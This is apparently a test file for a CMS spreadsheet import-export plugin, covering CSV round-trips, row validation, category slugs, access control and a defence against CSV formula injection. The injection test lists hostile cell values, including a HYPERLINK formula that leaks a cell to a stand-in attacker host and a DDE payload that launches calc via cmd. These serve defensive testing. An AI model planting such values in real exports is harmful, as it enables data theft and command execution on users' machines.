/**
 * The spreadsheet way in and out (Payload's import-export plugin): a CSV export that imports back,
 * and imports that are all or nothing, naming each bad line and why.
 */
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { FERRETDB_LACKS, freshDatabaseUri, knownDifference } from '../helpers/database'
import { upload, uploadForm } from '../helpers/files'
import { login, rest } from '../helpers/rest'
import { type Cms, startCms, TEST_ADMIN_PASSWORD } from '../helpers/servers'

let cms: Cms
let token: string

beforeAll(async () => {
  cms = await startCms({ databaseUri: freshDatabaseUri(), env: { SEED_DEMO: 'true' } })
  token = await login(cms.url, 'unclepat', TEST_ADMIN_PASSWORD)
})
afterAll(() => cms?.stop())

const items = async () =>
  (await rest(cms.url, 'items?limit=100&depth=0&sort=name', { token })).body.docs as {
    id: number
    name: string
    price: number
    quantity: number
    slug: string
    updatedAt: string
  }[]

/** The columns Uncle Pat edits (rich-text descriptions stay out of his spreadsheet). */
const COLUMNS = ['id', 'name', 'sku', 'price', 'quantity', '_status']

async function exportCsv(fields = COLUMNS): Promise<string> {
  const response = await fetch(`${cms.url}/api/exports/download`, {
    method: 'POST',
    headers: { authorization: `JWT ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ data: { collectionSlug: 'items', format: 'csv', fields } }),
  })
  expect(response.status).toBe(200)
  return response.text()
}

async function importCsv(csv: string, options: Record<string, unknown> = { importMode: 'create' }) {
  const response = await upload(
    cms.url,
    'imports',
    uploadForm({ data: csv, name: 'stock.csv', type: 'text/csv' }, { collectionSlug: 'items', ...options }),
    { authorization: `JWT ${token}` },
  )
  expect(response.status, JSON.stringify(response.body)).toBe(201)
  return response.body.doc as {
    status: string
    summary: { imported: number; issueDetails?: { error: string; row: number }[]; issues: number; updated: number }
  }
}

describe('CSV export and import', () => {
  knownDifference(FERRETDB_LACKS.transactions)('exports every item, and an edited export imports back (update by id)', async () => {
    const csv = await exportCsv()
    const [header, ...rows] = csv.trim().split('\n')
    const columns = header.split(',')
    expect(columns).toEqual(COLUMNS)
    expect(rows).toHaveLength(21)

    // Uncle Pat changes one price and one quantity in his spreadsheet, then imports the file.
    const before = await items()
    const kaya = before.find((item) => item.name === 'Kaya Spread 400 g')!
    const priceColumn = columns.indexOf('price')
    const quantityColumn = columns.indexOf('quantity')
    const edited = [
      header,
      ...rows.map((row) => {
        if (!row.startsWith(`${kaya.id},`)) return row
        const cells = row.split(',') // no commas in these demo names
        cells[priceColumn] = '495'
        cells[quantityColumn] = '40'
        return cells.join(',')
      }),
    ].join('\n')

    const result = await importCsv(edited, { importMode: 'update', matchField: 'id' })
    expect(result.status).toBe('completed')
    expect(result.summary.updated).toBe(21)
    const after = await items()
    expect(after.find((item) => item.id === kaya.id)).toMatchObject({ price: 495, quantity: 40 })
    // Everything else came back as it was.
    for (const { updatedAt: _saved, ...item } of after.filter((one) => one.id !== kaya.id)) {
      const { updatedAt: _before, ...was } = before.find((one) => one.id === item.id)!
      expect(item).toEqual(was)
    }
  })

  knownDifference(FERRETDB_LACKS.transactions)('creates new items from a spreadsheet', async () => {
    const result = await importCsv(
      'name,sku,price,quantity,_status\nPandan Cake,PANDAN-1,650,8,published\nOndeh Ondeh (6),ONDEH-6,420,12,draft\n',
    )
    expect(result).toMatchObject({ status: 'completed', summary: { imported: 2, issues: 0 } })
    const created = (await items()).filter((item) => ['Pandan Cake', 'Ondeh Ondeh (6)'].includes(item.name))
    expect(created).toHaveLength(2)
  })

  knownDifference(FERRETDB_LACKS.transactions)(
    'refuses a file with a malformed row: every bad line named with its reason, nothing imported',
    async () => {
      const before = await items()
      const csv = [
        'name,sku,price,quantity',
        'Good Bun,GOOD-1,150,5', // line 2
        'Bad Price Bun,BAD-1,12abc,5', // line 3
        'Negative Bun,NEG-1,150,-4', // line 4
        ',NONAME-1,100,1', // line 5
        'Another Good Bun,GOOD-2,150,5', // line 6
        'Twin Bun,GOOD-1,150,5', // line 7: same SKU as line 2
      ].join('\n')
      const result = await importCsv(csv)
      expect(result.status).toBe('failed')
      expect(result.summary.imported).toBe(0)
      const problems = Object.fromEntries(result.summary.issueDetails!.map((issue) => [issue.row, issue.error]))
      expect(Object.keys(problems).map(Number).sort()).toEqual([3, 4, 5, 7])
      expect(problems[3]).toMatch(/price: Price must be a number/)
      expect(problems[4]).toMatch(/quantity: .*cannot be negative/)
      expect(problems[5]).toMatch(/name/)
      expect(problems[7]).toMatch(/sku: "GOOD-1" is also on line 2/)
      expect(await items()).toEqual(before)
    },
  )

  knownDifference(FERRETDB_LACKS.transactions)(
    'writes no live spreadsheet formula, and the file still imports back exactly (OWASP CSV injection)',
    async () => {
      // Names a spreadsheet would run as formulas, and text the guard must not confuse with its own '.
      const names = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
        '+SUM(1,2)',
        "-2+3+cmd|' /C calc'!A0",
        '@SUM(A1:A2)',
        '＝1+1 (full-width)',
        "'Quoted' Kopi",
        "''Twice Quoted",
        '-5',
        '1.50',
        'true',
        'null',
      ]
      for (const [index, name] of names.entries()) {
        const created = await rest(cms.url, 'items', {
          method: 'POST',
          token,
          // A slug and a SKU that look like numbers, which the CSV reader would otherwise turn into numbers.
          body: {
            name,
            slug: index === 1 ? '2024' : `csv-guard-${index}`,
            sku: index === 0 ? '12345' : undefined,
            price: 100 + index,
            quantity: index,
            _status: 'published',
          },
        })
        expect(created.status, JSON.stringify(created.body)).toBe(201)
      }
      const before = await items()

      const csv = await exportCsv([...COLUMNS, 'slug'])
      const rows: Record<string, string>[] = parse(csv, { bom: true, columns: true })
      for (const row of rows) {
        for (const cell of [row.name, row.sku, row.slug]) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/)
      }
      const cells = rows.map((row) => row.name)
      for (const name of names) expect(cells).toContain(`'${name}`)
      expect(rows.find((row) => row.name.startsWith("'=HYPERLINK"))!.sku).toBe("'12345")
      expect(rows.find((row) => row.name === "'+SUM(1,2)")!.slug).toBe("'2024")
      // The cell that holds commas and quotes is quoted as a whole: nothing spills into the next cell.
      expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`)

      const result = await importCsv(csv, { importMode: 'update', matchField: 'id' })
      expect(result.status, JSON.stringify(result.summary)).toBe('completed')
      const after = await items()
      for (const { updatedAt: _saved, ...item } of after) {
        const { updatedAt: _before, ...was } = before.find((one) => one.id === item.id)!
        expect(item).toEqual(was)
      }
      expect(after.map((item) => item.name)).toEqual(expect.arrayContaining(names))
    },
  )

  knownDifference(FERRETDB_LACKS.transactions)(
    "carries an item's aisles by slug: exported, imported back, and an unknown slug refuses the file",
    async () => {
      const rows: Record<string, string>[] = parse(await exportCsv(['id', 'name', 'categories']), { bom: true, columns: true })
      expect(rows.find((row) => row.name === 'Milo 3-in-1 (18 sachets)')!.categories).toBe('drinks,breakfast-staples')
      expect(rows.find((row) => row.name === 'Umbrella, Compact')!.categories).toBe('odds-and-ends')

      // Uncle Pat moves the kaya to two other aisles in his spreadsheet.
      const kaya = rows.find((row) => row.name === 'Kaya Spread 400 g')!
      const moved = await importCsv(`id,categories\n${kaya.id},"snacks, breakfast-staples"\n`, { importMode: 'update', matchField: 'id' })
      expect(moved.status, JSON.stringify(moved.summary)).toBe('completed')
      const aislesOf = async (slug: string) =>
        (await rest(cms.url, `items?where[slug][equals]=${slug}&depth=1`, { token })).body.docs[0].categories.map(
          (aisle: { slug: string }) => aisle.slug,
        )
      expect(await aislesOf('kaya-spread-400-g')).toEqual(['snacks', 'breakfast-staples'])

      // A new item in an aisle, and one in an aisle that does not exist: the file is refused whole.
      const before = await items()
      const refused = await importCsv(
        'name,price,quantity,categories\nLychee Drink,180,10,drinks\nMystery Box,500,1,"snacks,no-such-aisle"\n',
      )
      expect(refused.status).toBe('failed')
      expect(refused.summary.issueDetails!.map(({ row, error }) => ({ row, error }))).toEqual([
        { row: 3, error: 'categories: no aisle has the slug "no-such-aisle"' },
      ])
      expect(await items()).toEqual(before)

      const created = await importCsv('name,price,quantity,categories\nLychee Drink,180,10,drinks\n')
      expect(created.status, JSON.stringify(created.summary)).toBe('completed')
      expect(await aislesOf('lychee-drink')).toEqual(['drinks'])
    },
  )

  it('is for staff only', async () => {
    const anonymous = await upload(
      cms.url,
      'imports',
      uploadForm({ data: 'name,price\nX,1\n', name: 'x.csv', type: 'text/csv' }, { collectionSlug: 'items' }),
    )
    expect([401, 403]).toContain(anonymous.status)
    const download = await fetch(`${cms.url}/api/exports/download`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ data: { collectionSlug: 'items', format: 'csv' } }),
    })
    expect(download.status).toBe(403)
  })
})
